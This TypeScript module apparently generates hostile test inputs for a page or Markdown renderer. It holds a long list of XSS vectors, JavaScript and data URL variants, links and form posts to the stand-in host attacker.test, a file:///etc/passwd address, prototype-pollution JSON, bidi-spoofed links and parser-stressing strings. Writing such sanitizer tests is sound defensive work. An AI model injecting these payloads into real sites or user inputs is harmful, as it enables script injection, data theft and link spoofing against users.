/** The deed of a text in a page that makes markup or a link of it: it calls `pwned`, or asks `attacker.test`. */
const script = "pwned('x')";
const foreign = "//attacker.test/x";

/** Well-known forms by which a text becomes markup, a script or a request. */
const markup: readonly string[] = [
  `<script>${script}</script>`,
  `<script src="https:${foreign}.js"></script>`,
  `<img src=x onerror=${script}>`,
  `<img src="https:${foreign}.png">`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${script}>#x">`,
  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  `<iframe src="javascript:parent.${script}"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="https:${foreign}.swf">`,
  `<body onload=${script}>`,
  `<input autofocus onfocus=${script}>`,
  `<details open ontoggle=${script}>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}></audio>`,
  `<form action="https:${foreign}"><button>Send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https:${foreign}">`,
  `<link rel=stylesheet href="https:${foreign}.css">`,
  `<style>@import "https:${foreign}.css"; *{background:url(https:${foreign}.png)}</style>`,
  `<base href="https:${foreign}/">`,
  `<a href="javascript:${script}">click</a>`,
  `<template><img src=x onerror=${script}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<!--><img src=x onerror=${script}>-->`,
  `<![CDATA[><img src=x onerror=${script}>]]>`,
  `</textarea></title></style></script><img src=x onerror=${script}>`,
  `"><img src=x onerror=${script}>`,
  `' autofocus onfocus=${script} x='`,
  `\`\${${script}}\``,
  `{{constructor.constructor("${script}")()}}`,
  `<x is=x onclick=${script} style="position:fixed;inset:0">cover</x>`,
  `&lt;img src=x onerror=${script}&gt;`,
  `&#60;script&#62;${script}&#60;/script&#62;`,
  `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${script}>"},"constructor":{"prototype":{}}}`,
  `{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${script}>"}},"constructor":null}`,
];

/** Addresses that a link must not have, and some that are asked for by an image. */
const addresses: readonly string[] = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  ` javascript:${script}`,
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  `\u0001javascript:${script}`,
  `javascript&colon;${script}`,
  `&#106;avascript:${script}`,
  `javascript:alert(1)//https://example.com`,
  `vbscript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgneCcpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${script}>`,
  `blob:https:${foreign}`,
  `file:///etc/passwd`,
  `view-source:https:${foreign}`,
  `https:${foreign}" onmouseover="${script}`,
  `https:${foreign}'onmouseover='${script}`,
  foreign,
  `\\\\attacker.test\\x`,
  `/\\attacker.test/x`,
  `https:${foreign}?key=`,
  `filesystem:https:${foreign}`,
  `ws:${foreign}`,
];

/** Texts that use Markdown for it, around an address. */
const links: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `![image](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `[click](${address} "title")`,
  (address) => `[![image](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[click][1]\n\n[1]: ${address}`,
  (address) => `| a |\n| - |\n| [click](${address}) |`,
];

/** Texts that hide what they are, or that try to be too much. */
const oddities: readonly string[] = [
  "\u202Egpj.exe\u202C <- a picture",
  "\u2066\u2067\u2068nested isolates\u2069",
  "[https://bank.test](https://attacker.test/\u202Etest.knab)",
  "[https://bank.test/?attacker.test](https://attacker.test)",
  "[contact.com](http://t.co/x)",
  "a\u0300".repeat(400),
  "\u0000\u0007\u001B[31mred\u007F\u0085",
  "\uD800 half a character \uDFFF",
  "\uFEFF\u200B\u200D\u2028\u2029\u00AD unseen",
  "> ".repeat(2000) + "deep quote",
  "[".repeat(3000) + "](".repeat(100),
  "*".repeat(3000) + "_".repeat(3000),
  "`".repeat(2000),
  "- ".repeat(1500) + "deep list",
  `${"|".repeat(1000)}\n${"|-".repeat(1000)}`,
  "#".repeat(500) + " heading",
  "x".repeat(20_000),
  "https://" + "a.".repeat(2000) + "test",
  "\n".repeat(3000),
  "<".repeat(5000),
];

/** Ways to wrap a text, in which a parser may forget what it is. */
const wraps: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\`\`\`${text}`,
  (text) => `> ${text}`,
  (text) => `1. ${text}`,
  (text) => `| ${text} |\n| --- |\n| ${text} |`,
  (text) => `# ${text}`,
  (text) => `[${text}](https://example.com)`,
  (text) => `${text}${text}`,
];

/** Returns so many different texts that would harm a careless page. */
export function hostileTexts(count: number): string[] {
  const plain = [...markup, ...addresses.flatMap((address) => links.map((link) => link(address))), ...oddities];
  const texts = new Set(plain);
  for (let at = 0; texts.size < count; at++) {
    const wrap = wraps[at % wraps.length] ?? String;
    const text = markup[Math.floor(at / wraps.length) % markup.length] ?? "";
    texts.add(at < wraps.length * markup.length ? wrap(text) : `${wrap(text)} ${at}`);
  }
  return [...texts].slice(0, count);
}
